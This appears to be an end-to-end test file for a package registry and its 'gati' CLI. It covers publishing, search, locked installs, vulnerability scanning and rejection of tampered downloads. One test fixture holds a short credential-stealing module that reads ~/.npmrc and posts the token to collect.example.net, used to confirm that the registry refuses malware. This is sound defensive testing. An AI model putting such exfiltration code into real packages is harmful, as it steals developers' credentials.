import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { createServer, request, type IncomingMessage } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createClientFor, signUp, type Client } from '../src/client.ts';
import { createPublisher, moduleFiles, type Person } from '../src/gati.ts';
import { until } from '../src/process.ts';
import { startRegistry, type Registry } from '../src/registry.ts';

let registry: Registry;
let ada: Client & { handle: string; password: string };
let person: Person;
beforeAll(async () => {
  registry = await startRegistry();
  ada = await signUp(registry.url, 'ada');
  person = await createPublisher(registry.url, ada);
});
afterAll(async () => {
  await person?.leave();
  await registry?.stop();
});

const publish = async (folder: string, ...options: readonly string[]) => {
  const result = await person.gati(['publish', folder, '--json', ...options]);
  expect(result, result.stderr).toMatchObject({ code: 0 });
  return result.json() as { name: string; version: string; digest: string; status: string; score: number | null };
};

/** Every file below a folder with the hash of its bytes. */
async function contentsOf(folder: string): Promise<Record<string, string>> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
  return Object.fromEntries(
    await Promise.all(
      files.sort().map(async (file) => [
        file.slice(folder.length + 1),
        createHash('sha256')
          .update(await readFile(file))
          .digest('hex'),
      ]),
    ),
  );
}

describe('from a folder to an installed artifact', () => {
  test('what is published is found, resolved with its dependencies, verified, unpacked, and locked so that a third folder gets the same bytes', async () => {
    const base = await person.folder('base', moduleFiles('@ada/base', '1.0.0'));
    expect(await publish(base)).toMatchObject({
      name: '@ada/base',
      version: '1.0.0',
      digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
      status: 'PUBLISHED',
    });
    const shop = await person.folder('shop', moduleFiles('@ada/shop', '1.2.0', { dependencies: { '@ada/base': '^1.0.0' } }));
    const published = await publish(shop);
    const publishedAt = performance.now();

    const found = await until(
      'the search to find it',
      async () =>
        (await createClientFor(registry.url).ask('Search', { query: { text: 'shop' } })).search.edges.find(
          ({ node }: any) => node.artifact.name === '@ada/shop',
        ),
      { patienceMs: 2_000 },
    );
    expect(performance.now() - publishedAt).toBeLessThan(2_000);
    expect(found.node.artifact.latest).toMatchObject({ version: '1.2.0' });
    const search = await person.gati(['search', 'shop', '--json']);
    expect(search.stdout).toContain('@ada/shop');

    const app = await person.folder('app');
    const install = await person.gati(['install', '@ada/shop', '--json'], { cwd: app });
    expect(install, install.stderr).toMatchObject({ code: 0 });
    const lock = JSON.parse(await readFile(join(app, 'gati.lock.json'), 'utf8'));
    expect(lock).toMatchObject({
      lockfileVersion: 1,
      registry: registry.url,
      roots: { '@ada/shop': '^1.2.0' },
      artifacts: {
        '@ada/base@1.0.0': {},
        '@ada/shop@1.2.0': { digest: published.digest, signedBy: expect.stringMatching(/^sha256:/), dependencies: { '@ada/base': '1.0.0' } },
      },
    });
    expect(JSON.parse(await readFile(join(app, 'gati.json'), 'utf8'))).toEqual({ dependencies: { '@ada/shop': '^1.2.0' } });
    expect(await readFile(join(app, 'gati_modules/@ada/shop/index.js'), 'utf8')).toContain('1.2.0');

    const frozen = await person.folder('frozen');
    for (const name of ['gati.json', 'gati.lock.json']) await writeFile(join(frozen, name), await readFile(join(app, name)));
    const again = await person.gati(['install', '--frozen'], { cwd: frozen, environment: { XDG_CACHE_HOME: join(person.home, 'another-cache') } });
    expect(again, again.stderr).toMatchObject({ code: 0 });
    expect(await contentsOf(join(frozen, 'gati_modules'))).toEqual(await contentsOf(join(app, 'gati_modules')));
    expect(await readFile(join(frozen, 'gati.lock.json'), 'utf8')).toBe(await readFile(join(app, 'gati.lock.json'), 'utf8'));
  });

  test('publishing the same folder again is no news, other bytes under the same number are refused', async () => {
    const folder = await person.folder('fixed', moduleFiles('@ada/fixed', '1.0.0'));
    const first = await publish(folder);
    expect(await publish(folder)).toMatchObject({ digest: first.digest });

    await writeFile(join(folder, 'index.js'), 'export const changed = true;\n');
    const refused = await person.gati(['publish', folder]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('VERSION_EXISTS');
  });

  test('a vulnerable dependency shows as findings with a score, streamed while the scan runs', async () => {
    const lock = {
      name: 'x',
      version: '1.0.0',
      lockfileVersion: 3,
      packages: { '': { name: 'x', version: '1.0.0', dependencies: { lodash: '4.17.15' } }, 'node_modules/lodash': { version: '4.17.15' } },
    };
    const folder = await person.folder('leaky', moduleFiles('@ada/leaky', '1.0.0', {}, { 'package-lock.json': JSON.stringify(lock) }));
    const { score } = await publish(folder);
    expect(score).toBeLessThan(100);

    const events = await createClientFor(registry.url).follow('ScanProgress', { artifact: '@ada/leaky', version: '1.0.0' });
    const last = events.at(-1).scanProgress;
    expect(last).toMatchObject({
      status: 'FINDINGS',
      score,
      version: { version: '1.0.0', status: 'PUBLISHED', artifact: { name: '@ada/leaky', namespace: { handle: 'ada' } } },
    });
    const { artifact } = await createClientFor(registry.url).ask('Security', { name: '@ada/leaky' });
    expect(artifact.version.scan.findings.nodes.map((finding: any) => finding.package?.name)).toContain('lodash');
    expect(artifact.version.signature).toMatchObject({ status: 'VALID', signedBy: { kind: 'KEY' } });
  });

  test('code that steals credentials is refused for good, and nobody else ever sees it', async () => {
    const steal =
      "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { request } from 'node:https';\nconst token = readFileSync(homedir() + '/.npmrc', 'utf8');\nrequest({ host: 'collect.example.net', method: 'POST' }).end(token);\n";
    const folder = await person.folder('thief', moduleFiles('@ada/thief', '1.0.0', {}, { 'index.js': steal }));
    const refused = await person.gati(['publish', folder]);

    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/MALWARE_DETECTED|MALICIOUS/);
    expect((await createClientFor(registry.url).ask('Artifact', { name: '@ada/thief' })).artifact).toBeNull();
    expect((await ada.ask('Artifact', { name: '@ada/thief', ref: '1.0.0' })).artifact.versions.nodes).toMatchObject([{ status: 'REJECTED' }]);
  });
});

describe('a flipped byte on the way', () => {
  let digest: string;
  let layer: string;
  let config: string;
  beforeAll(async () => {
    digest = (await publish(await person.folder('target', moduleFiles('@ada/target', '1.0.0')))).digest;
    const token = ((await (await fetch(`${registry.url}/v2/token?scope=repository:ada/target:pull`)).json()) as { token: string }).token;
    const manifest = (await (
      await fetch(`${registry.url}/v2/ada/target/manifests/${digest}`, { headers: { authorization: `Bearer ${token}` } })
    ).json()) as any;
    [layer, config] = [manifest.layers[0].digest, manifest.config.digest];
  });

  test.each([
    ['the layer', () => layer],
    ['the config', () => config],
    ['the manifest', () => digest],
    ['the signature', () => '"sig"'],
  ])('in %s makes a frozen install fail with the reason and leaves nothing behind', async (_, marker) => {
    const app = await person.folder(`app-${createHash('sha256').update(marker()).digest('hex').slice(0, 8)}`);
    expect(await person.gati(['install', '@ada/target@1.0.0'], { cwd: app })).toMatchObject({ code: 0 });
    const victim = await person.folder(`${app.split('/').at(-1)}-victim`);
    for (const name of ['gati.json', 'gati.lock.json']) await writeFile(join(victim, name), await readFile(join(app, name)));

    const proxy = await startFlippingProxy(registry.url, marker());
    try {
      const result = await person.gati(['install', '--frozen', '--registry', proxy.url], {
        cwd: victim,
        environment: { XDG_CACHE_HOME: join(victim, '.cache') },
      });
      expect(proxy.flipped(), 'the proxy must have met what it was to damage').toBeGreaterThan(0);
      expect(result, result.stdout).toMatchObject({ code: 1 });
      expect(result.stderr).toMatch(/DIGEST_INVALID|SIGNATURE_INVALID/);
      expect(await stat(join(victim, 'gati_modules')).catch(() => null)).toBeNull();
    } finally {
      await proxy.close();
    }
  });
});

/** Passes everything on to the registry and flips one bit in each answer that belongs to the marker: the blob or manifest of a digest, or a signature in any body. */
async function startFlippingProxy(target: string, marker: string) {
  let flips = 0;
  const { hostname, port } = new URL(target);
  const damage = (path: string, body: Buffer): Buffer => {
    if (marker.startsWith('sha256:')) {
      if (!path.includes(marker) || path.includes('/referrers/')) return body;
      flips++;
      const copy = Buffer.from(body);
      copy[copy.length >> 1]! ^= 1;
      return copy;
    }
    const text = body.toString('latin1');
    const at = text.indexOf(marker);
    if (at < 0) return body;
    flips++;
    const place = text.indexOf('"', at + marker.length + 1) + 12;
    return Buffer.from(text.slice(0, place) + (text[place] === 'A' ? 'B' : 'A') + text.slice(place + 1), 'latin1');
  };
  const server = createServer((incoming, outgoing) => {
    const upstream = request(
      { hostname, port, path: incoming.url, method: incoming.method, headers: { ...incoming.headers, 'accept-encoding': 'identity' } },
      async (answer: IncomingMessage) => {
        const pieces: Buffer[] = [];
        for await (const piece of answer) pieces.push(piece as Buffer);
        const body = damage(decodeURIComponent(incoming.url ?? ''), Buffer.concat(pieces));
        const { 'transfer-encoding': _, ...headers } = answer.headers;
        outgoing.writeHead(answer.statusCode ?? 502, { ...headers, 'content-length': body.length }).end(body);
      },
    );
    upstream.once('error', () => outgoing.destroy());
    incoming.pipe(upstream);
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address() as { port: number };
  return { url: `http://127.0.0.1:${address.port}`, flipped: () => flips, close: async () => (server.closeAllConnections(), void server.close()) };
}
